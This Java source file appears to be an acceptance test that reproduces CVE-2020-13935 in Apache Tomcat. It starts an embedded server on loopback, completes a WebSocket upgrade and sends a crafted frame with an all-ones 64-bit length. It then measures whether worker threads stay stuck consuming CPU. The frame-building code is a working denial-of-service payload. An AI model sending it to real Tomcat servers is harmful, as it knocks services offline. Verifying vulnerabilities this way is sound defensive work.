package dev.rouse.acceptance.cases;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.io.OutputStream;
import java.lang.management.ManagementFactory;
import java.lang.management.ThreadMXBean;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.Arrays;
import java.util.concurrent.TimeUnit;
import javax.servlet.ServletContextEvent;
import javax.servlet.ServletContextListener;
import javax.websocket.DeploymentException;
import javax.websocket.Endpoint;
import javax.websocket.EndpointConfig;
import javax.websocket.Session;
import javax.websocket.server.ServerContainer;
import javax.websocket.server.ServerEndpointConfig;
import org.apache.catalina.Context;
import org.apache.catalina.startup.Tomcat;

/**
 * <a href="https://nvd.nist.gov/vuln/detail/CVE-2020-13935">CVE-2020-13935</a>: a WebSocket frame that says that it is
 * -1 bytes long is never read to its end, nor is any byte of it: its worker decodes an empty buffer for ever.
 */
final class TomcatFrame13935 {
    /** Of the time that the workers could have run. */
    private static final double BUSY = 0.02;

    private static final String UPGRADE = "GET /orders HTTP/1.1\r\nHost: shop\r\nUpgrade: websocket\r\nConnection:"
            + " Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";

    public static void main(String[] arguments) throws Exception {
        Tomcat tomcat = start();
        try (Socket client = new Socket(
                InetAddress.getLoopbackAddress(), tomcat.getConnector().getLocalPort())) {
            String answer = upgrade(client);
            client.getOutputStream().write(endlessFrame());
            TimeUnit.SECONDS.sleep(1);
            long before = workersCpu();
            TimeUnit.NANOSECONDS.sleep(Outcome.PATIENCE.toNanos() - 1_000_000_000);
            double part = (double) (workersCpu() - before) / Outcome.PATIENCE.toNanos();
            Outcome.end(
                    part > BUSY,
                    answer + "; after one frame the workers use " + Math.round(100 * part) + " % of a core");
        }
    }

    private static Tomcat start() throws Exception {
        Tomcat tomcat = new Tomcat();
        tomcat.setBaseDir(Files.createTempDirectory("tomcat").toString());
        tomcat.setPort(0);
        tomcat.getConnector().setProperty("address", "127.0.0.1");
        Context context =
                tomcat.addContext("", Files.createTempDirectory("orders").toString());
        context.addApplicationListener("org.apache.tomcat.websocket.server.WsContextListener");
        context.addApplicationListener(Orders.class.getName());
        Tomcat.addServlet(context, "files", "org.apache.catalina.servlets.DefaultServlet");
        context.addServletMappingDecoded("/", "files");
        tomcat.start();
        return tomcat;
    }

    private static String upgrade(Socket client) throws IOException {
        OutputStream out = client.getOutputStream();
        out.write(UPGRADE.getBytes(StandardCharsets.US_ASCII));
        BufferedReader in =
                new BufferedReader(new InputStreamReader(client.getInputStream(), StandardCharsets.US_ASCII));
        String status = in.readLine();
        for (String line = status; line != null && !line.isEmpty(); line = in.readLine()) {}
        return String.valueOf(status);
    }

    /** A masked text frame whose 64 bits of length are all set, and some bytes of it. */
    private static byte[] endlessFrame() {
        byte[] frame = new byte[2 + 8 + 4 + 10];
        frame[0] = (byte) 0x81;
        Arrays.fill(frame, 1, 10, (byte) 0xFF);
        return frame;
    }

    private static long workersCpu() {
        ThreadMXBean threads = ManagementFactory.getThreadMXBean();
        return Arrays.stream(threads.getThreadInfo(threads.getAllThreadIds()))
                .filter(thread -> thread != null && thread.getThreadName().startsWith("http-"))
                .mapToLong(thread -> Math.max(0, threads.getThreadCpuTime(thread.getThreadId())))
                .sum();
    }

    /** The endpoint of a shop. */
    public static final class Orders extends Endpoint implements ServletContextListener {
        @Override
        public void contextInitialized(ServletContextEvent event) {
            Object container = event.getServletContext().getAttribute(ServerContainer.class.getName());
            try {
                ((ServerContainer) container)
                        .addEndpoint(ServerEndpointConfig.Builder.create(Orders.class, "/orders")
                                .build());
            } catch (DeploymentException e) {
                throw new IllegalStateException(e);
            }
        }

        @Override
        public void contextDestroyed(ServletContextEvent event) {}

        @Override
        public void onOpen(Session session, EndpointConfig config) {
            session.addMessageHandler(String.class, message -> {});
        }
    }
}
